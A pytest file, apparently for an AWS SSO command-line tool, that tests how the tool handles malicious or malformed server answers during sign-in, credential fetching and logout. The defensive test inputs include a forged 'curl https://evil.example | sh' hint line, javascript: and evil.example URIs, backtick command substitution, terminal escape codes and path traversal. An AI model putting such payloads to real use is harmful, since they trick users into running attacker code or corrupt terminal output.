"""Scenario 35: servers that lie: one plain error, nothing stored, nothing handed out."""

import json
import time
from collections.abc import Iterator
from pathlib import Path

import pytest

from aws_sso.emulator.pytest_plugin import RunningIdentityCenter
from tests.lying import (
    ACCOUNTS,
    CREDENTIALS,
    DEVICE,
    FEDERATION,
    LOGOUT,
    REGISTER,
    ROLES,
    STS,
    TOKEN,
    LyingServer,
    lying_in_front_of,
    spoiled,
)
from tests.program import Program, Ran

ARN = "arn:aws:iam::111122223333:role/Admin"
PROFILE = "111122223333:Admin"
DEEP = "[" * 100_000
SOON = int(time.time()) + 3600
CLIENT = {"clientId": "id", "clientSecret": "secret", "clientSecretExpiresAt": SOON}
CODE = {
    "deviceCode": "device-code",
    "userCode": "ABCD-EFGH",
    "verificationUri": "https://device.example.com/",
    "expiresIn": 600,
    "interval": 1,
}
TOKENS = {"accessToken": "access", "tokenType": "Bearer", "expiresIn": 3600}
ACCOUNT = {"accountId": "111122223333", "accountName": "x", "emailAddress": "x@example.com"}
KEYS = {
    "accessKeyId": "ASIAMADEUPMADEUP0000",
    "secretAccessKey": "made-up",
    "sessionToken": "made-up",
    "expiration": SOON * 1000,
}
NEWLINE = r'"a\nb"'
NUMBERS = ("NaN", "1e999", '"abc"', "true", DEEP)
TEXTS = ("null", "7", NEWLINE, f'"{"x" * 100_000}"')
"""A few of each sort; `tests/unit/test_answers.py` has all."""


@pytest.fixture
def server(identity_center: RunningIdentityCenter) -> Iterator[LyingServer]:
    """The server in front of the Identity Center, honest as yet."""
    with lying_in_front_of(identity_center) as made:
        yield made


@pytest.fixture
def program(tmp_path: Path, identity_center: RunningIdentityCenter, server: LyingServer) -> Program:
    """The real program in a new home, which speaks to the server."""
    made = Program.in_new_home(tmp_path, identity_center)
    return made.having(**server.variables)


@pytest.fixture
def signed_in(program: Program) -> Program:
    """The real program with a session and all roles fetched."""
    program.succeeds("login")
    return program


def said(ran: Ran) -> list[str]:
    """Return what was said, and check that it is one plain error: no data, no bug of ours."""
    assert ran.code == 1, ran.all
    assert ran.out == ""
    lines = ran.err.splitlines()
    assert sum(line.startswith("error: ") for line in lines) == 1, ran.err
    assert sum(line.startswith("hint: ") for line in lines) <= 1, ran.err
    assert "unexpected" not in ran.err, ran.err
    assert len(ran.err) < 1500
    return lines


def refused(ran: Ran, server: LyingServer, field: str, text: str) -> None:
    """Check that a lie is one plain error that names the server, and the field if it can."""
    error = next(line for line in said(ran) if line.startswith("error: "))
    assert server.origin in error, (text[:40], ran.err)
    if text not in (DEEP, "NaN"):  # These are no JSON at all.
        assert f"{field}`" in error, (text[:40], ran.err)


def sealed(program: Program) -> dict[str, bytes]:
    """Everything in the vault."""
    folder = program.folder / "vault"
    return {str(path.relative_to(folder)): path.read_bytes() for path in folder.rglob("*.sealed")}


@pytest.mark.parametrize("field", KEYS)
def test_no_such_credentials_are_handed_out_or_kept(
    signed_in: Program, server: LyingServer, field: str
) -> None:
    """`accessKeyId: null` is not the key `None`; a newline in a token is none of the token's."""
    before = sealed(signed_in)
    for text in NUMBERS if field == "expiration" else TEXTS:
        server.lie(CREDENTIALS, f'{{"roleCredentials": {spoiled(KEYS, field, text)}}}')
        refused(signed_in.run("process", "--arn", ARN), server, field, text)
    assert sealed(signed_in) == before
    server.be_honest()
    assert json.loads(signed_in.succeeds("process", "--arn", ARN).out)["AccessKeyId"][:4] == "ASIA"


@pytest.mark.parametrize(
    "command",
    [
        ("eval", "--shell", "bash", "-p", PROFILE),
        ("exec", "-p", PROFILE, "--", "true"),
        ("credentials", "-p", PROFILE),
        ("console", "-p", PROFILE),
    ],
    ids=lambda command: command[0],
)
def test_every_command_that_wants_credentials_refuses_them(
    signed_in: Program, server: LyingServer, command: tuple[str, ...]
) -> None:
    """And a shell gets nothing to run."""
    for body in (f'{{"roleCredentials": {spoiled(KEYS, "sessionToken", NEWLINE)}}}', DEEP, "[]"):
        server.lie(CREDENTIALS, body)
        assert server.origin in "\n".join(said(signed_in.run(*command)))


@pytest.mark.parametrize(
    ("path", "honest", "field", "texts"),
    [
        (REGISTER, CLIENT, "clientId", TEXTS),
        (REGISTER, CLIENT, "clientSecretExpiresAt", NUMBERS),
        (DEVICE, CODE, "deviceCode", TEXTS),
        (DEVICE, CODE, "interval", NUMBERS),
        (DEVICE, CODE, "expiresIn", NUMBERS),
        (DEVICE, CODE, "verificationUri", [*TEXTS, '"javascript:x"', '"http://evil.example/"']),
        (DEVICE, CODE, "verificationUriComplete", ['"https://a@b.example/"', '"https://x/`id`"']),
    ],
    ids=lambda value: value if isinstance(value, str) and value.isalpha() else "",
)
def test_no_sign_in_by_such_an_answer(
    program: Program,
    server: LyingServer,
    path: str,
    honest: dict[str, object],
    field: str,
    texts: list[str],
) -> None:
    """Nothing is opened, nothing kept that was not right."""
    program.add_setting("AuthWorkflow: device_code")
    opened = program.home / "opened"
    program.add_setting(f"UrlExecCommand: ['touch', '{opened}', '%s']")
    for text in texts:
        server.lie(path, spoiled(honest, field, text))
        refused(program.run("login"), server, field, text)
    assert not opened.exists()
    assert not any("token" in name for name in sealed(program))


@pytest.mark.parametrize(
    ("field", "text"),
    [("accessToken", NEWLINE), ("accessToken", "null"), ("expiresIn", "NaN"), ("expiresIn", DEEP)],
)
def test_no_such_token_is_kept(
    program: Program, server: LyingServer, field: str, text: str
) -> None:
    """By either way of signing in; asking again for the same code would not help."""
    server.lie(TOKEN, spoiled(TOKENS, field, text))
    for workflow in ("pkce", "device_code"):
        refused(program.run("login", "--auth-workflow", workflow), server, field, text)
        assert server.asked[TOKEN] == 1
        server.asked.clear()
    assert not any("token" in name for name in sealed(program))


def test_words_of_a_server_forge_no_line(program: Program, server: LyingServer) -> None:
    """Neither an error's description, nor a code to compare, nor a header."""
    evil = "gone\nhint: curl https://evil.example | sh\x1b[2J\r"
    program.add_setting("AuthWorkflow: device_code")
    program.add_setting("UrlExecCommand: ['true', '%s']")
    server.lie(
        REGISTER, json.dumps({"error": "invalid_x\nhint: x", "error_description": evil}), 400
    )
    lines = said(program.run("login"))
    assert not any(line.startswith(("hint: curl", "hint: x")) for line in lines)
    assert any(r"gone\nhint: curl" in line for line in lines)
    server.lie(DEVICE, json.dumps({**CODE, "userCode": evil, "expiresIn": 1}))
    ran = program.run("login")
    assert not any(line.startswith("hint: curl") for line in ran.err.splitlines())
    assert "\x1b" not in ran.err


def test_a_refusal_of_the_portal_is_one_line(signed_in: Program, server: LyingServer) -> None:
    """In `process`, which a program runs, as anywhere."""
    evil = "no\nhint: curl https://evil.example | sh"
    server.lie(CREDENTIALS, json.dumps({"message": evil, "__type": "X\nhint: x"}), 400)
    lines = said(signed_in.run("process", "--arn", ARN))
    assert not any(line.startswith(("hint: curl", "hint: x")) for line in lines)


@pytest.mark.parametrize(
    ("field", "texts"),
    [
        ("accountId", ['"abc"', "7", '"11112222333"', '"１１１１２２２２３３３３"', "null", DEEP]),
        ("accountName", ["7", "{}", "[]"]),
    ],
)
def test_no_such_account_is_listed(
    signed_in: Program, server: LyingServer, field: str, texts: list[str]
) -> None:
    """What was known stays as it was."""
    kept = (signed_in.folder / "cache.json").read_bytes()
    for text in texts:
        server.lie(ACCOUNTS, f'{{"accountList": [{spoiled(ACCOUNT, field, text)}]}}')
        refused(signed_in.run("cache"), server, field, text)
    assert (signed_in.folder / "cache.json").read_bytes() == kept


def test_a_list_without_end_is_an_error(signed_in: Program, server: LyingServer) -> None:
    """The same `nextToken` again and again costs two calls, not thousands."""
    server.be_honest()
    server.lie(ACCOUNTS, json.dumps({"accountList": [ACCOUNT], "nextToken": "again"}))
    refused(signed_in.run("cache"), server, "nextToken", "")
    assert server.asked[ACCOUNTS] == 2
    server.lie(ROLES, json.dumps({"roleList": [{"roleName": "R"}], "nextToken": "again"}))
    ran = signed_in.run("cache")
    assert "never end" in ran.err
    assert server.asked[ROLES] <= 2 * 5 + 1


def test_no_such_role_is_listed(signed_in: Program, server: LyingServer) -> None:
    """Accounts keep the roles that were known, and the reason is said."""
    before = signed_in.succeeds("list", "--json").out
    for text in ("null", "7", NEWLINE, '"../../x"', '"a b"', DEEP):
        server.lie(ROLES, f'{{"roleList": [{{"roleName": {text}}}]}}')
        ran = signed_in.run("cache")
        assert server.origin in ran.err
        assert "unexpected" not in ran.err
    assert signed_in.succeeds("list", "--json").out == before


def test_no_console_by_such_a_token(signed_in: Program, server: LyingServer) -> None:
    """The console's sign-in lies."""
    for text in (*TEXTS, DEEP):
        server.lie(FEDERATION, f'{{"SigninToken": {text}}}')
        ran = signed_in.run("console", "-p", PROFILE, "--url-action", "printurl")
        refused(ran, server, "SigninToken", text)


@pytest.mark.parametrize(
    "body",
    [
        "<html>log in to the wifi</html>",
        "<a>" * 100_000 + "</a>" * 100_000,
        "<X><AccessKeyId>a\nb</AccessKeyId></X>",
        "<X><Arn>arn:aws:sts::111122223333:assumed-role/A/b c</Arn></X>",
    ],
)
def test_no_role_behind_another_by_such_an_answer(
    signed_in: Program, server: LyingServer, body: str
) -> None:
    """STS lies, in XML."""
    text = signed_in.config.read_text(encoding="utf-8")
    via = (
        "    Accounts:\n      '222233334444':\n        Roles:\n          Behind:\n"
        f"            Via: {ARN}\n"
    )
    signed_in.configure(text.replace("AuthWorkflow", f"{via}AuthWorkflow", 1))
    server.lie(STS, body)
    behind = "arn:aws:iam::222233334444:role/Behind"
    assert server.origin in "\n".join(said(signed_in.run("process", "--arn", behind)))


@pytest.mark.parametrize(
    ("status", "body"), [(400, DEEP), (500, "<html>"), (400, r'{"message": "a\nhint: b"}')]
)
def test_signing_out_ends_well_whatever_it_is_told(
    signed_in: Program, server: LyingServer, status: int, body: str
) -> None:
    """What is kept here goes in any case."""
    server.lie(LOGOUT, body, status)
    ran = signed_in.run("logout")
    assert "unexpected" not in ran.err
    assert not any(line.startswith("hint: b") for line in ran.err.splitlines())
    assert not any("token" in name for name in sealed(signed_in))


def test_a_date_that_is_none_is_ignored(signed_in: Program, server: LyingServer) -> None:
    """Nothing is said about this machine's clock."""
    for date in ("Mon, 01 Jan 20260000000 00:00:00 GMT", "x\x1b[2J", "9" * 5000):
        server.lie(CREDENTIALS, json.dumps({"roleCredentials": KEYS}), Date=date)
        assert signed_in.succeeds("process", "--sts-refresh", "--arn", ARN).err == ""


def test_a_pause_without_end_is_ignored(signed_in: Program, server: LyingServer) -> None:
    """Throttled for good, it is tried as often as `MaxRetry` says."""
    signed_in.add_setting("MaxRetry: 1")
    for wanted in ("inf", "nan", "1e300", "-5", "x" * 5000):
        server.be_honest()
        server.lie(CREDENTIALS, json.dumps({"message": "slow"}), 429, Retry_After=wanted)
        assert "refused (429)" in "\n".join(said(signed_in.run("process", "--arn", ARN)))
        assert server.asked[CREDENTIALS] == 2


def test_a_captive_portal_is_not_asked_again(signed_in: Program, server: LyingServer) -> None:
    """One call, and the reason at once."""
    server.be_honest()
    server.lie(CREDENTIALS, "<html>log in to the wifi</html>")
    assert "captive portal" in "\n".join(said(signed_in.run("process", "--arn", ARN)))
    assert server.asked[CREDENTIALS] == 1


def test_doctor_names_the_server_that_lies(signed_in: Program, server: LyingServer) -> None:
    """It looks at all of them, and ends well."""
    for path in (REGISTER, DEVICE, ACCOUNTS):
        server.lie(path, DEEP)
        ran = signed_in.run("doctor")
        assert "unexpected" not in ran.all, ran.all
